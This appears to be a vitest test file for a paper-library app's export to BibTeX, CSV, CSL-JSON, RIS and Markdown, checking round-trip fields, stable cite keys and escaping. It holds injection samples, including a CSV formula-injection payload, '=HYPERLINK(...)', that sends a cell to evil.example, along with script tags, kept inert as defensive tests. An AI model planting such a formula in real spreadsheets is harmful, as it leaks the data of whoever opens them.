import { parse as parseBibtex } from '@retorquere/bibtex-parser';
import { describe, expect, it } from 'vitest';
import type { Paper } from '../../src/shared/model';
import { CSV_COLUMNS, unguardCell } from '../../src/main/core/export/csv';
import { testCore, readText } from '../helpers/core';
import { parseCsv, parseRis } from '../helpers/formats';
import { SEED_DIGEST } from '../helpers/paths';
import { addRichPapers } from '../helpers/rich-library';

async function richLibrary() {
  const t = testCore();
  await t.api.commitImport({ text: readText(SEED_DIGEST), fileName: 'hf-daily-papers-page.txt' });
  const ids = addRichPapers(t.core.db);
  const all = (await t.api.listPapers({ limit: 1000 })).rows.map((r) => r.id);
  const papers = new Map<number, Paper>();
  for (const id of all) papers.set(id, await t.api.getPaper({ ref: String(id) }));
  return { ...t, ids, order: all, papers };
}

const keyOf = (text: string) => [...text.matchAll(/^@misc\{([^,]+),/gm)].map((m) => m[1]!);

describe('export', () => {
  it('writes BibTeX that reads back to the same fields, with unique keys, through the parser Better BibTeX uses', async () => {
    const { api, papers, order, core } = await richLibrary();
    const r = await api.exportPapers({ format: 'bibtex' });
    expect(r.count).toBe(39);
    expect(r.fileName).toBe('lectern-library-2026-11-25.bib');
    const lib = parseBibtex(r.text, { sentenceCase: false, english: false });
    expect(lib.errors).toEqual([]);
    expect(lib.entries).toHaveLength(39);
    const keys = lib.entries.map((e) => e.key);
    expect(new Set(keys.map((k) => k.toLowerCase())).size).toBe(39);
    for (const k of keys) expect(k).toMatch(/^[a-z][a-z0-9]*$/);
    const byKey = new Map(core.db.prepare('SELECT cite_key, id FROM paper').all().map((x) => [(x as { cite_key: string }).cite_key, (x as { id: number }).id]));
    // The file is in the table's order.
    expect(keys.map((k) => byKey.get(k))).toEqual(order);
    for (const e of lib.entries) {
      const p = papers.get(byKey.get(e.key)!)!;
      const f = e.fields;
      expect(f.title, p.title).toBe(p.title);
      expect(f.abstract ?? null, p.title).toBe(p.abstract);
      const names = f.author?.map((a) => a.name ?? [a.firstName, a.prefix, a.lastName, a.suffix].filter(Boolean).join(' ')) ?? null;
      expect(names, p.title).toEqual(p.authors);
      expect(f.date ?? null).toBe(p.published);
      expect(f.eprint ?? null).toBe(p.arxivId);
      expect(f.doi ?? null).toBe(p.doi);
      expect([...(f.keywords ?? [])].sort()).toEqual([...(p.categories ?? [])].sort());
    }
    expect(keys).toContain('vaswani2017attention');
    expect(keys).toContain('vaswani2017attentiona');
    expect(keys).toContain('berg1999brane');
    core.close();
  });

  it('keeps a key once given, whatever the filter or later metadata', async () => {
    const { api, ids, core } = await richLibrary();
    const first = keyOf((await api.exportPapers({ format: 'bibtex', statuses: ['read'] })).text);
    expect(first).toEqual(['vaswani2017attention', 'berg1999brane']);
    // A new paper that wants the same key gets another; the pinned one does not move.
    core.db.prepare("UPDATE paper SET authors = '[\"Ashish Vaswani\"]', published = '2017-01-01', title = 'Attention again' WHERE id = ?").run(ids[1]);
    core.db.prepare('UPDATE paper SET cite_key = NULL WHERE id = ?').run(ids[1]);
    const all = keyOf((await api.exportPapers({ format: 'bibtex' })).text);
    expect(all).toContain('vaswani2017attention');
    expect(all).toContain('berg1999brane');
    expect(all).toContain('vaswani2017attentiona');
    // Metadata filled in later (authors found) does not change a pinned key.
    const eight = ids[7]!;
    const before = core.db.prepare('SELECT cite_key FROM paper WHERE id = ?').pluck().get(eight);
    core.db.prepare("UPDATE paper SET authors = '[\"Zed Zulu\"]' WHERE id = ?").run(eight);
    await api.exportPapers({ format: 'csv' });
    expect(core.db.prepare('SELECT cite_key FROM paper WHERE id = ?').pluck().get(eight)).toBe(before);
    core.close();
  });

  it('escapes what could start an entry or run as TeX', async () => {
    const { api, core } = await richLibrary();
    const text = (await api.exportPapers({ format: 'bibtex', search: 'braces' })).text;
    expect(keyOf(text)).toHaveLength(1);
    expect(text).not.toContain('<script>');
    expect(text).toContain('\\textless{}script\\textgreater{}');
    expect(text).toContain('50\\% of \\$x\\textasciicircum{}2\\$ \\& \\{braces\\} \\#1 a\\_b \\textasciitilde{} back\\textbackslash{}slash -{}- en -{}-{}- em');
    // "@misc{" inside an abstract is inert: one entry, and the search text in the header comment loses its @.
    expect(text.match(/^@/gm)).toHaveLength(1);
    const tricky = (await api.exportPapers({ format: 'bibtex', search: '@misc{evil' })).text;
    expect(tricky.split('\n')[0]).toMatch(/^% Exported from Lectern .*matching “miscevil”/);
    core.close();
  });

  it('writes CSV that a spreadsheet cannot run, and that reads back field for field', async () => {
    const { api, papers, order, core } = await richLibrary();
    const r = await api.exportPapers({ format: 'csv' });
    expect(r.text.startsWith('\uFEFFid,cite_key,title,')).toBe(true);
    const rows = parseCsv(r.text);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(40);
    for (const row of rows.slice(1)) {
      // No cell starts a formula.
      for (const c of row) expect(c).not.toMatch(/^[=+\-@\t\r]/);
      const v = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, unguardCell(row[i]!)]));
      const p = papers.get(Number(v.id))!;
      expect(v.title).toBe(p.title);
      expect(v.abstract).toBe(p.abstract ?? '');
      expect(v.authors).toBe(p.authors?.join('; ') ?? '');
      expect(v.published).toBe(p.published ?? '');
      expect(v.status).toBe(p.status);
      expect(v.read_at).toBe(p.readAt ?? '');
      expect(v.doi).toBe(p.doi ?? '');
      expect(v.arxiv_id).toBe(p.arxivId ?? '');
      expect(v.upvotes).toBe(String(p.upvotes));
      expect(v.links).toBe(p.links.join(' '));
      expect(v.digests).toBe(p.digests.map((d) => d.name).join('; '));
    }
    expect(rows.slice(1).map((r) => Number(r[0]))).toEqual(order);
    const evil = rows.find((x) => x[2]!.includes('HYPERLINK'))!;
    expect(evil[2]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"click me")');
    core.close();
  });

  it('writes CSL-JSON and RIS with the same fields', async () => {
    const { api, papers, core } = await richLibrary();
    const csl = JSON.parse((await api.exportPapers({ format: 'csl-json' })).text) as Record<string, unknown>[];
    expect(csl).toHaveLength(39);
    const ris = parseRis((await api.exportPapers({ format: 'ris' })).text);
    expect(ris).toHaveLength(39);
    const idOf = new Map(core.db.prepare('SELECT cite_key, id FROM paper').all().map((x) => [(x as { cite_key: string }).cite_key, (x as { id: number }).id]));
    for (const [i, item] of csl.entries()) {
      const p = papers.get(idOf.get(item.id as string)!)!;
      expect(item.title).toBe(p.title);
      expect(item.abstract ?? null).toBe(p.abstract);
      const names = (item.author as { family?: string; given?: string; literal?: string }[] | undefined)?.map((a) => a.literal ?? `${a.given} ${a.family}`) ?? null;
      expect(names).toEqual(p.authors);
      const parts = (item.issued as { 'date-parts': number[][] } | undefined)?.['date-parts'][0];
      expect(parts ? parts.map((n, k) => String(n).padStart(k ? 2 : 4, '0')).join('-') : null).toBe(p.published);
      expect(item.DOI ?? null).toBe(p.doi);
      expect(item.number ?? null).toBe(p.arxivId ? `arXiv:${p.arxivId}` : null);
      expect((item.custom as { lectern: { status: string } }).lectern.status).toBe(p.status);

      const rec = ris[i]!;
      expect(rec.ID).toEqual([item.id]);
      expect(rec.TI).toEqual([p.title]);
      expect(rec.AB?.[0] ?? null).toBe(p.abstract);
      expect(rec.AU?.map((a) => (a.includes(', ') ? a.split(', ').reverse().join(' ') : a)) ?? null).toEqual(p.authors);
      expect(rec.DA?.[0] ?? null).toBe(p.published ? `${p.published.replace(/-/g, '/')}/` : null);
      expect(rec.DO?.[0] ?? null).toBe(p.doi);
      for (const l of p.links) expect(rec.UR).toContain(l);
      expect(rec.KW ?? []).toEqual(p.categories ?? []);
    }
    core.close();
  });

  it('writes a Markdown reading list with no live markup from digests', async () => {
    const { api, core } = await richLibrary();
    const md = (await api.exportPapers({ format: 'markdown' })).text;
    expect(md).toMatch(/^# Reading list\n\n39 papers: the whole library\. Exported from Lectern on 2026-11-25\.\n\n## Reading \(1\)\n\n- \[ \] \*\*/);
    expect(md).toContain('## To read (36)');
    expect(md).toContain('## Read (2)');
    expect(md).toContain('- [x] **Attention Is All You Need** — Ashish Vaswani, Noam Shazeer, Niki Parmar, Jakob Uszkoreit · 2017-06-12 · [arXiv:1706.03762](https://arxiv.org/abs/1706.03762) · read 2026-11-25');
    expect(md).not.toMatch(/(^|[^\\])<(script|img)/m);
    expect(md).toContain('\\<script\\>');
    expect(md).not.toMatch(/\]\((?!https:)/);
    expect(md).toContain('50% of \\$x^2\\$ \\& {braces}');
    expect(md).toContain('[doi:10.1002/(sici)1097-4636(199706)35:4\\<477::aid-jbm9\\>3.0.co;2-f](https://doi.org/10.1002/%28sici%291097-4636%28199706%2935%3A4%3C477%3A%3Aaid-jbm9%3E3.0.co%3B2-f)');
    core.close();
  });

  it('exports exactly what a filter selects, in the order asked', async () => {
    const { api, core } = await richLibrary();
    const digests = await api.listDigests({});
    const cases = [
      { status: 'unread' as const },
      { status: 'read' as const, sort: 'title' as const, desc: true },
      { search: 'language' },
      { digestId: digests.find((d) => d.name === 'Rich test digest')!.id },
      { digestId: digests.find((d) => d.name.startsWith('Daily Papers'))!.id, status: 'unread' as const },
    ];
    for (const filter of cases) {
      const list = await api.listPapers({ ...filter, limit: 1000 });
      const csv = parseCsv((await api.exportPapers({ format: 'csv', ...filter })).text).slice(1);
      expect(csv.map((r) => Number(r[0])), JSON.stringify(filter)).toEqual(list.rows.map((r) => r.id));
    }
    const r = await api.exportPapers({ format: 'ris', statuses: ['unread'], digestIds: [digests[0]!.id], search: 'model' });
    expect(r.fileName).toBe('lectern-unread-rich-test-digest-model-2026-11-25.ris');
    await expect(api.exportPapers({ format: 'ris', digestIds: [999] })).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await expect(api.exportPapers({ format: 'docx' as 'ris' })).rejects.toMatchObject({ code: 'BAD_INPUT' });
    const empty = await api.exportPapers({ format: 'csl-json', search: 'nothingmatchesthis' });
    expect(empty).toMatchObject({ count: 0, text: '[]\n' });
    core.close();
  });
});
